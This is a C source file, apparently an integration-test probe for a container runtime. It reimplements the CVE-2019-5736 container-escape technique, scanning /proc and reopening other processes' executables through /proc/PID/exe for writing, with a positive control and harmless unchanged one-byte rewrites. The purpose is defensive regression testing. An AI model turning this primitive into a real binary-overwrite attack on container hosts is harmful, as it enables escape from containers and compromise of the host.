// The CVE-2019-5736 attack, run inside a container by the integration tests:
// watch /proc for processes, try to open their /proc/PID/exe for writing, and
// keep an O_PATH fd to every executable we may reach so it can be reopened for
// writing later, once no process runs it any more (ETXTBSY is gone).
//
//   exe_attacker STOPFILE   scan until STOPFILE exists, then report
//   exe_attacker --exe PID  attack /proc/PID/exe once and report:
//                           "exe-path ok|denied" (an O_PATH fd), "exe-rdonly 0|1"
//                           (its mount is read-only), "exe-sealed 0|1", and one
//                           "exe-write HOW ERRNO" per attempt to open it for
//                           writing ("exe-written" if a byte could be written)
//
// As a positive control it first runs a copy of itself (a dumpable process of
// the container, as our own would be without protection) and must be able to
// reopen that copy for writing: the report then says "control-writable 1".
// Report lines: "seen N" (foreign pids looked at), "denied N" (exe links we
// could not follow), "writable DEV:INO" for every executable reopened for
// writing, with " sealed" for a sealed memfd and " written" when one byte
// could be written (rewritten unchanged).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_STASH 512
#define MAX_PIDS 4096

static int stash[MAX_STASH];
static int stashed;
static int seen_pids[MAX_PIDS];
static int seen;
static int denied;

static int already_seen(int pid) {
  for (int i = 0; i < seen; ++i)
    if (seen_pids[i] == pid) return 1;
  if (seen < MAX_PIDS) seen_pids[seen++] = pid;
  return 0;
}

static void try_exe(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  // A direct writable open (fails with ETXTBSY while the binary runs anyway).
  for (int i = 0; i < 2; ++i) {
    int fd = open(path, (i ? O_WRONLY : O_RDWR) | O_CLOEXEC);
    if (fd >= 0) {
      struct stat st;
      fstat(fd, &st);
      printf("open-%s %lu:%lu\n", i ? "wronly" : "rdwr", (unsigned long)st.st_dev,
             (unsigned long)st.st_ino);
      close(fd);
    }
  }
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    if (errno == EACCES || errno == EPERM) ++denied;
    return;
  }
  if (stashed < MAX_STASH) stash[stashed++] = fd;
  else close(fd);
}

static void scan(void) {
  DIR* proc = opendir("/proc");
  if (!proc) return;
  struct dirent* e;
  while ((e = readdir(proc))) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    if (!already_seen(pid)) try_exe(pid);
  }
  closedir(proc);
}

// Reopen every stashed executable for writing; the (dev, ino) of each success.
static int reopen_stash(const struct stat* control) {
  int control_writable = 0;
  for (int i = 0; i < stashed; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", stash[i]);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) continue;
    struct stat st;
    fstat(fd, &st);
    char byte;
    int seals = fcntl(fd, F_GET_SEALS);
    int wrote = pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1;
    printf("writable %lu:%lu%s%s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
           seals > 0 && (seals & F_SEAL_WRITE) ? " sealed" : "", wrote ? " written" : "");
    if (st.st_dev == control->st_dev && st.st_ino == control->st_ino) control_writable = 1;
    close(fd);
  }
  return control_writable;
}

// Returns once the copy runs (its end of the pipe closes at execve).
static pid_t start_control(const char* copy) {
  int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0) (void)!write(out, buf, (size_t)n);
  close(in);
  close(out);
  int execed[2];
  if (pipe2(execed, O_CLOEXEC) != 0) return -1;
  pid_t pid = fork();
  if (pid == 0) {
    execl(copy, copy, "--sleep", (char*)NULL);
    _exit(127);
  }
  close(execed[1]);
  (void)!read(execed[0], buf, 1);
  close(execed[0]);
  return pid;
}

static void try_write(const char* how, const char* path) {
  for (int i = 0; i < 2; ++i) {
    int fd = open(path, (i ? O_WRONLY : O_RDWR) | O_CLOEXEC);
    if (fd < 0) {
      printf("exe-write %s-%s %s\n", how, i ? "wronly" : "rdwr", strerror(errno));
      continue;
    }
    char byte = 0;
    int wrote = pread(fd, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1;
    printf("exe-write %s-%s opened\n%s", how, i ? "wronly" : "rdwr", wrote ? "exe-written\n" : "");
    close(fd);
  }
}

static int attack_exe(const char* pid) {
  char path[64], fd_path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) {
    printf("exe-path denied %s\n", strerror(errno));
    try_write("direct", path);
    return 0;
  }
  printf("exe-path ok\n");
  struct statvfs vfs;
  printf("exe-rdonly %d\n", fstatvfs(fd, &vfs) == 0 && (vfs.f_flag & ST_RDONLY) ? 1 : 0);
  snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
  int readable = open(fd_path, O_RDONLY | O_CLOEXEC);
  int seals = readable >= 0 ? fcntl(readable, F_GET_SEALS) : -1;
  printf("exe-sealed %d\n", seals > 0 && (seals & F_SEAL_WRITE) ? 1 : 0);
  if (readable >= 0) close(readable);
  try_write("direct", path);
  try_write("reopen", fd_path);
  return 0;
}

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "--exe") == 0) return attack_exe(argv[2]);
  if (argc == 2 && strcmp(argv[1], "--sleep") == 0) {
    usleep(300 * 1000);
    return 0;
  }
  if (argc != 2) return 2;
  const char* control_copy = "/tmp/exe-attacker-control";
  pid_t control = start_control(control_copy);
  struct stat control_st;
  stat(control_copy, &control_st);
  int finished = 0;
  while (!finished) {
    finished = access(argv[1], F_OK) == 0;
    scan();
    if (control > 0 && waitpid(control, NULL, WNOHANG) == control) control = 0;
  }
  if (control > 0) waitpid(control, NULL, 0);
  int control_writable = reopen_stash(&control_st);
  printf("seen %d\ndenied %d\ncontrol-writable %d\n", seen, denied, control_writable);
  return 0;
}
